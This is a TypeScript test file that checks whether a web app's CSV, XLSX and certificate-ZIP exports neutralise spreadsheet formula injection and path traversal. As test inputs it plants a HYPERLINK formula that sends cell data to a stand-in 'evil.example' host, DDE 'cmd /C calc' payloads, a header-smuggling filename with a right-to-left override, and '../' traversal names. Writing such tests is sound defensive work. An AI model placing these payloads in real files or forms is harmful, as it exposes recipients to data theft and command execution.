/** What a spreadsheet would run, where a name belongs: in the files of a report it is a text. */
import { parse } from 'csv-parse/sync';
import { unzipSync } from 'fflate';
import { readSheet } from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { forgetTemplates } from './setup/demo-database.ts';
import { openStory, type Story } from './setup/told-story.ts';

/** Written by their people, who may call themselves what they like. */
const names: Record<string, string> = {
  'grace.atieno': '=HYPERLINK("http://evil.example?x="&A1,"Grace")',
  'faith.chebet': '+254 Faith',
  'esther.nyambura': '-2+3+cmd|" /C calc"!A0',
  'david.mutua': '@SUM(1+1)*Esther',
  'samuel.kiprotich': '＝1+1 Samuel',
  'halima.abdi': 'Halima "ฮาลีมา" <Abdi>, ออกแบบ & 🏠',
};

/** Written by leaders; where a form would take something out, straight into the database. */
const positions: Record<string, string> = {
  'grace.atieno': '\t=1+1',
  'faith.chebet': '\r=1+1',
  'esther.nyambura': '\n=1+1',
  'david.mutua': '  @A1',
  'samuel.kiprotich': '"=1+1',
  'halima.abdi': 'พี่เลี้ยงเด็ก',
};

const safe = new Set(['halima.abdi']);
const organizationName = '=cmd|" /C calc"!A0 \u202eTumaini; filename=x.exe';

/** What Excel, LibreOffice and Google take for a formula, or for the end of a cell. */
const runs = /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/u;

describe('a report’s files', () => {
  let story: Story;
  beforeAll(async () => {
    story = await openStory('SQLite', { listen: true });
    for (const [username, name] of Object.entries(names)) {
      const person = await story.browser(username);
      const sent = { name, language: 'en', timeZone: 'Africa/Nairobi' };
      expect((await person.post('/me', sent)).status, username).toBe(303);
      await story.db
        .updateTable('memberships')
        .set({ position: positions[username]! })
        .where('person_id', '=', await story.personId(username))
        .execute();
    }
    // Harder than the form, which would refuse the letters that turn a line around.
    await story.db
      .updateTable('organizations')
      .set({ name: organizationName })
      .where('slug', '=', 'tumaini')
      .execute();
  }, 120_000);
  afterAll(() => story.close());
  afterAll(forgetTemplates);

  const file = async (kind: string): Promise<Response> => {
    const leader = await story.browser('moses.okello');
    const response = await leader.get(`/organizations/tumaini/${kind}`);
    expect(response.status, kind).toBe(200);
    return response;
  };
  const written = (text: string) => (runs.test(text) ? `'${text}` : text);

  it('are called by nothing that anybody wrote', async () => {
    for (const [kind, ending] of [
      ['report.csv', 'csv'],
      ['report.xlsx', 'xlsx'],
      ['certificates.zip', 'zip'],
    ]) {
      const { headers } = await file(kind!);
      expect(headers.get('content-disposition')).toMatch(
        new RegExp(`^attachment; filename="tumaini-[a-z0-9-]+\\.${ending}"$`),
      );
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('cache-control')).toBe('private, no-store');
    }
  });

  it('hold no formula as CSV: prefixed, quoted, and otherwise what was written', async () => {
    const bytes = Buffer.from(await (await file('report.csv')).arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    const [, ...rows] = parse(text, { bom: true }) as string[][];
    expect(rows.length).toBeGreaterThanOrEqual(Object.keys(names).length);
    for (const cell of rows.flat()) expect(cell).not.toMatch(runs);
    for (const [username, name] of Object.entries(names)) {
      const row = rows.find((it) => it[0]!.endsWith(name));
      expect(row?.slice(0, 2), username).toEqual([written(name), written(positions[username]!)]);
      expect(row?.[0]!.startsWith("'"), username).toBe(!safe.has(username));
      // Quoted, so that neither a comma nor a line's end inside begins a cell.
      expect(text).toContain(`"${written(name).replaceAll('"', '""')}"`);
    }
  });

  it('hold no formula as XLSX either, in no part of the workbook', async () => {
    const bytes = Buffer.from(await (await file('report.xlsx')).arrayBuffer());
    const parts = unzipSync(bytes);
    const xml = new TextDecoder().decode(parts['xl/worksheets/sheet1.xml']);
    expect(xml).not.toMatch(/<f[ >]|<hyperlink|<ddeLink|t="str"/);
    expect(Object.keys(parts).filter((it) => /extern|macro|vba|connection/i.test(it))).toEqual([]);
    const [, ...rows] = await readSheet(bytes);
    for (const [username, name] of Object.entries(names)) {
      const row = rows.find((it) => String(it[0]).endsWith(name));
      expect(row?.[0], username).toBe(written(name));
      expect(row?.[1], username).toBe(written(positions[username]!));
      expect(String(row?.[1]), username).not.toMatch(runs);
    }
  });

  it('hold certificates under names that lead nowhere', async () => {
    await story.db
      .updateTable('certificates')
      .set({ holder: '../../=Halima\\..\\ฮาลีมา' })
      .where('person_id', '=', await story.personId('halima.abdi'))
      .execute();
    const zip = Buffer.from(await (await file('certificates.zip')).arrayBuffer());
    const entries = Object.keys(unzipSync(zip));
    expect(entries.some((entry) => entry.includes('ฮาลีมา'))).toBe(true);
    for (const entry of entries) expect(entry).toMatch(/^[\p{L}\p{N}][\p{L}\p{M}\p{N}-]*\.pdf$/u);
  });

  it('has left nothing in the log that needs mending', () => {
    expect(story.server.output()).toBe('');
  });
});
